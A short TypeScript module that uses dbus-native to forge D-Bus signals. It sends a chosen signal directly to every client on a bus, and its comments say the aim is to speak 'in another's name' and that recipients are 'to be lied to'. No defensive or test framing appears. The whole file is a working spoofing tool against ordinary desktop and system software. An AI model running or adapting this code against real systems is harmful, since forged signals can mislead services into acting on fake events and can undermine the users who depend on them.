import { createClient, messageType } from 'dbus-native';
import { z } from 'zod';

/** Beyond the numbers that the connection's own calls get. */
const FIRST_SERIAL = 1_000;

const namesSchema = z.array(z.string());

/** Sends a signal in another's name, from a connection of its own, straight to every client of the bus: match rules do not stop that. */
export async function forgeSignal(
  busAddress: string,
  forged: {
    readonly path: string;
    readonly interface: string;
    readonly member: string;
    readonly signature: string;
    readonly body: readonly unknown[];
  },
): Promise<void> {
  const client = createClient({ busAddress });
  const names = namesSchema.parse(await client.listNames());
  const others = names.filter((name) => name.startsWith(':') && name !== client.name);
  if (others.length === 0) throw new Error('nobody is on the bus to be lied to');
  others.forEach((destination, index) => {
    const serial = FIRST_SERIAL + index;
    client.connection.message({ ...forged, body: [...forged.body], type: messageType.signal, destination, serial });
  });
  // The bus daemon answers in order: what was sent before this question has been passed on.
  await client.listNames();
  await client.close();
}
